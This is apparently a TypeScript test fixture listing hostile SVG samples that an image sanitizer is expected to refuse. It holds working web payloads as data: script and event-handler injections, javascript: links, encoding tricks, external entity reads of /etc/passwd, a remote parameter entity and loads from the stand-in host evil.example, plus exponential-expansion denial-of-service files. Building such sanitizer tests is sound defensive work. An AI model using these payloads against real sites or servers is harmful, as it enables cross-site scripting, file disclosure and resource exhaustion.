const ns = 'xmlns="http://www.w3.org/2000/svg"';
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const inside = (content: string, attributes = '') =>
  `<svg ${ns} ${xlink} viewBox="0 0 10 10"${attributes ? ` ${attributes}` : ''}>${content}</svg>`;

const clones = (levels: number, each: number) =>
  Array.from({ length: levels }, (_, level) => {
    const content = level === 0 ? '<path d="M0 0h1"/>' : `<use href="#c${level - 1}"/>`.repeat(each);
    return `<g id="c${level}">${content}</g>`;
  }).join('');

const masks = (levels: number) =>
  Array.from({ length: levels }, (_, level) => {
    const shape = `<rect width="1" height="1"${level > 0 ? ` mask="url(#m${level - 1})"` : ''}/>`;
    return `<mask id="m${level}">${shape.repeat(10)}</mask>`;
  }).join('');

/** SVG files that must be refused, by their attack. */
export const hostileSamples: Record<string, string> = {
  // Scripts
  'a script': inside('<script>alert(1)</script>'),
  'a script from elsewhere': inside('<script href="https://evil.example/x.js"/>'),
  'a script by xlink': inside('<script xlink:href="https://evil.example/x.js"/>'),
  'a script in CDATA': inside('<script><![CDATA[alert(1)]]></script>'),
  'a script with a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><s:script>alert(1)</s:script></s:svg>`,
  'a script in another namespace': inside(
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  ),
  'a script in the namespace of the element': inside(
    '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  ),
  'a script inside defs': inside('<defs><script>alert(1)</script></defs>'),
  'a script inside metadata': inside('<metadata><script>alert(1)</script></metadata>'),
  'a script inside title': inside('<title><script>alert(1)</script></title>'),
  'a script inside a note of an editor': `<svg ${ns} xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" viewBox="0 0 1 1"><sodipodi:namedview><script>alert(1)</script></sodipodi:namedview></svg>`,
  'a handler element': inside(
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  ),
  'a listener of XML events': inside(
    '<l:listener xmlns:l="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>',
  ),

  // Event handlers
  'onload at the root': inside('<path d="M0 0"/>', 'onload="alert(1)"'),
  'onclick on a shape': inside('<rect width="1" height="1" onclick="alert(1)"/>'),
  'onmouseover in a group': inside('<g onmouseover="alert(1)"><path d="M0 0"/></g>'),
  'onbegin in upper case': inside('<g ONBEGIN="alert(1)"/>'),
  'onfocusin with an encoded value': inside('<g onfocusin="&#97;lert(1)" focusable="true"/>'),
  'onerror on an image': inside('<image href="x" onerror="alert(1)"/>'),
  'an unknown handler': inside('<g onwhatever="alert(1)"/>'),
  'a handler on a note of an editor': `<svg ${ns} xmlns:i="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 1 1"><i:x onload="alert(1)"/></svg>`,

  // Animation
  'set on a handler': inside('<rect width="1" height="1"><set attributeName="onload" to="alert(1)"/></rect>'),
  'animate to a script address': inside(
    '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
  ),
  animateTransform: inside('<animateTransform attributeName="transform" type="rotate"/>'),
  animateMotion: inside('<animateMotion path="M0 0h1"/>'),
  discard: inside('<discard begin="1s"/>'),

  // Links and external references
  'a link': inside('<a href="https://evil.example/"><path d="M0 0"/></a>'),
  'a link to a script': inside('<a xlink:href="javascript:alert(1)"><path d="M0 0"/></a>'),
  'use of another file': inside('<use href="https://evil.example/x.svg#a"/>'),
  'use of a file beside it': inside('<use href="other.svg#a"/>'),
  'use without a scheme': inside('<use xlink:href="//evil.example/x.svg#a"/>'),
  'use of a data address': inside('<use href="data:image/svg+xml,%3Csvg%3E#a"/>'),
  'use of a script address': inside('<use href="javascript:alert(1)"/>'),
  'use of two places': inside('<use href="#a" xlink:href="https://evil.example/x.svg#a"/>'),
  'use of the whole file': inside('<use href=""/>'),
  'an image from elsewhere': inside('<image href="https://evil.example/pixel.png"/>'),
  'an image of the disk': inside('<image xlink:href="file:///etc/passwd" width="1" height="1"/>'),
  'an embedded image': inside('<image href="data:image/png;base64,AAAA"/>'),
  feImage: inside('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
  'a gradient from elsewhere': inside('<linearGradient id="g" href="https://evil.example/x.svg#g"/>'),
  'a fill from elsewhere': inside('<path d="M0 0" fill="url(https://evil.example/x.svg#g)"/>'),
  'a fill from elsewhere behind a local one': inside('<path d="M0 0" fill="url(#a) url(//evil.example/x)"/>'),
  'a mask from elsewhere in quotes': inside(`<path d="M0 0" mask="url('https://evil.example/x.svg#m')"/>`),
  'an escaped url': inside('<path d="M0 0" fill="u\\72l(https://evil.example/x)"/>'),
  'an url with an encoded letter': inside('<path d="M0 0" fill="&#117;rl(https://evil.example/x)"/>'),
  'a clip path from elsewhere': inside('<path d="M0 0" clip-path="url(other.svg#c)"/>'),
  'a cursor': inside('<path d="M0 0" cursor="url(https://evil.example/c.cur)"/>'),
  'a filter from elsewhere': inside('<path d="M0 0" filter="url(https://evil.example/f.svg#f)"/>'),
  'an image function': inside('<path d="M0 0" fill="image-set(\'x.png\' 1x)"/>'),
  'another base for references': inside('<use href="#a"/>', 'xml:base="https://evil.example/x.svg"'),
  'a picture of pictures by href on a shape': inside('<path href="#a" d="M0 0"/>'),
  'an xlink reference in a note': `<svg ${ns} ${xlink} xmlns:s="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" viewBox="0 0 1 1"><s:x xlink:href="https://evil.example/"/></svg>`,

  // Styles
  'a style sheet': inside('<style>g path{fill:red}</style>'),
  'a style sheet with an import': inside('<style>@import url(https://evil.example/x.css);</style>'),
  'a style sheet in CDATA': inside('<style><![CDATA[@import "//evil.example/x.css";]]></style>'),
  'a style attribute': inside('<path d="M0 0" style="transform:rotate(3deg)"/>'),
  'a style attribute that loads': inside('<path d="M0 0" style="background:url(https://evil.example/x)"/>'),
  'a linked style sheet': `<?xml-stylesheet href="https://evil.example/x.css"?>${inside('')}`,
  'a linked style sheet further down': inside('<?xml-stylesheet href="x.css"?><path d="M0 0"/>'),
  'a link element of HTML': inside(
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/x.css"/>',
  ),

  // Embedded HTML
  foreignObject: inside(
    '<foreignObject width="1" height="1"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
  ),
  'an empty foreignObject': inside('<foreignObject/>'),
  'an iframe': inside('<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="x"/>'),
  'an object of HTML with a prefix': inside(
    '<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="https://evil.example/"/>',
  ),
  'HTML inside metadata': inside(
    '<metadata><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x"/></metadata>',
  ),
  'HTML inside desc': inside('<desc><p xmlns="http://www.w3.org/1999/xhtml">x</p></desc>'),
  MathML: inside('<math xmlns="http://www.w3.org/1998/Math/MathML"/>'),
  'audio and video': inside('<video xmlns="http://www.w3.org/1999/xhtml" src="x"/>'),
  'licence notes outside metadata': inside(
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
  ),
  'an unknown namespace': inside('<x:y xmlns:x="urn:x"/>'),
  'an attribute of an unknown namespace': inside('<g xmlns:x="urn:x" x:href="https://evil.example/"/>'),

  // Declarations and entities
  'a DOCTYPE': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${inside('')}`,
  'an entity of its own': `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${inside('&x;')}`,
  'an entity from the disk': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inside('<title>&x;</title>')}`,
  'an entity bomb': `<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${inside('<desc>&c;</desc>')}`,
  'a parameter entity': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${inside('')}`,
  'an unknown entity': inside('<title>&nbsp;</title>'),
  'another encoding than its own': `<?xml version="1.0" encoding="UTF-7"?>${inside('<title>+ADw-script+AD4-</title>')}`,
  'the encoding of another alphabet': `<?xml version="1.0" encoding="ISO-2022-JP"?>${inside('')}`,
  'a processing instruction': `<?php echo 1 ?>${inside('')}`,

  // Exponential expansion
  'clones of clones': inside(clones(8, 10)),
  'masks in masks': inside(masks(7) + '<rect width="1" height="1" mask="url(#m6)"/>'),
  'a clone of itself': inside('<g id="a"><use href="#a"/></g>'),
  'two clones of each other': inside('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  'a huge blur': inside('<filter id="f"><feGaussianBlur stdDeviation="1e9"/></filter>'),
  'a pattern': inside('<pattern id="p" width="0.0001" height="0.0001"/>'),
  'endless nesting': inside('<g>'.repeat(5000) + '</g>'.repeat(5000)),

  // Not an image
  'a web page': '<!doctype html><html><body><script>alert(1)</script></body></html>',
  'an XHTML page': '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
  'no namespace': '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>',
  'nothing at all': '',
  'plain text': 'javascript:alert(1)',
  'a file that stops in the middle': `<svg ${ns} viewBox="0 0 1 1"><path d="M0`,
  'tags that do not match': `<svg ${ns} viewBox="0 0 1 1"><g></svg>`,
  'two roots': `${inside('')}${inside('<script/>')}`,
  'the same attribute twice': inside('<g fill="red" fill="blue"/>'),
  'no size': `<svg ${ns}><path d="M0 0"/></svg>`,
};
